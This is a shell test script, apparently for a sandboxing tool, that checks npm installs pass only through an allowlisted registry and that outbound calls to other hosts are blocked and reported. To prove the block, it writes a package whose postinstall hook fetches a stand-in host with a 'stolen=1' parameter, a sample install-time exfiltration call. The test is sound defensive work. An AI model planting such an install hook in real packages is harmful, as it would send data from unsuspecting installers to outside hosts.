#!/bin/bash
# limit: 180
# The one test that uses the machine's real network, once or twice: what npm installs comes through the
# allowlist, no variable tells it of a proxy, and a package's script that dials anything else is
# refused and named. The registry is the one that npm is configured for.
# The helpers set out, err and status; scripts for another shell stand in single quotes.
# shellcheck disable=SC2016,SC2154
# shellcheck source=tests/live/lib.sh
. "$(dirname "$0")/lib.sh"

for tool in npm node; do
	command -v $tool >/dev/null || { echo "1..0 # SKIP no $tool here"; exit 0; }
done
unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy
registry=$(npm config get registry)
host=$(printf '%s\n' "$registry" | sed 's|^[a-z]*://||; s|[:/].*||')
cafile=$(npm config get cafile)
case $cafile in /*) ;; *) cafile= ;; esac
export npm_config_update_notifier=false
quiet='--no-audit --no-fund --fetch-retries=0 --fetch-timeout=20000'

# job COMMAND...: as `run`, with a minute.
job()
{
	status=0
	timeout -k 2 60 "$@" </dev/null >"$T/out" 2>"$T/err" || status=$?
	out=$(head -c 100000 "$T/out") err=$(head -c 100000 "$T/err")
}

cat >fetch.mjs <<'JS'
for (const url of process.argv.slice(2))
	await fetch(url).then(r => console.log(r.status), e => console.log("failed", e.cause && e.cause.code));
JS
ask="NODE_EXTRA_CA_CERTS=$cafile node fetch.mjs ${registry}is-number/latest"
run sh -c "$ask"
if [ "$out" != 200 ]; then
	skip "npm install" "the registry does not answer here"
	done_testing
fi

# --- The registry and nothing else ---------------------------------------------------------------------------

printf '{ "name": "seal-test", "version": "1.0.0" }\n' >package.json
manifest <<TOML
[sandbox.os]
command_tools = [{ tool = "npm", domains = ["$host"] }, "node"]
TOML
# shellcheck disable=SC2086 # options, as words
job "$seal" -- npm install $quiet is-number
exits 0 "npm install, through the allowlist"
is "$(node -e 'console.log(require("is-number")("5"))')" true "... of a package that works"
unlike "$err" 'seal-exec: (blocked|cannot)' "... and nothing was refused"
run "$seal" -- npm exec -c 'env'
unlike "$out" '^(https?_proxy|HTTPS?_PROXY|all_proxy|ALL_PROXY|npm_config_(https_)?proxy)=' "no variable names a proxy"

mkdir package
cat >package/package.json <<'JSON'
{ "name": "seal-test-script", "version": "1.0.0", "scripts": { "postinstall": "node dial.mjs" } }
JSON
cat >package/dial.mjs <<'JS'
import fs from "node:fs";
await fetch("https://seal-exec-refused.example/?stolen=1").then(
	r => fs.writeFileSync(process.env.INIT_CWD + "/dialled", "reached " + r.status),
	e => fs.writeFileSync(process.env.INIT_CWD + "/dialled", "failed " + (e.cause && e.cause.code)));
JS
(cd package && npm pack --silent >/dev/null) || exit 1
# shellcheck disable=SC2086
job "$seal" -- npm install $quiet ./package/seal-test-script-1.0.0.tgz
exits 0 "npm install of a package whose postinstall script dials another host"
is "$(cat dialled)" "failed ENOTFOUND" "... which the script cannot reach"
like "$err" '^seal-exec: blocked seal-exec-refused\.example.* \(not in domains; to allow: \[sandbox\.os\.network\] domains = \["seal-exec-refused\.example"\]\)' \
	"... and which is named, with the line that would allow it"

# --- Without it ------------------------------------------------------------------------------------------------

manifest <<'TOML'
[sandbox.os]
command_tools = [{ tool = "npm", domains = [] }, "node"]
TOML
rm -rf node_modules package-lock.json
printf '{ "name": "seal-test", "version": "1.0.0" }\n' >package.json
# shellcheck disable=SC2086
job "$seal" -- npm install $quiet --cache "$T/proj/cache" is-number
[ "$status" != 0 ] && [ ! -e node_modules/is-number ]
ok $? "npm install without the registry: fails (status $status)"

# --- node --------------------------------------------------------------------------------------------------------

manifest <<TOML
[sandbox.os]
read = ["${cafile:-/etc/ssl/certs}"]
[sandbox.os.network]
domains = ["$host"]
TOML
run "$seal" -- sh -c "$ask https://seal-exec-refused.example/"
is "$out" "200
failed ENOTFOUND" "Node's fetch: the registry, and a name that is refused"
like "$err" '^seal-exec: blocked seal-exec-refused\.example' "... and named"

done_testing
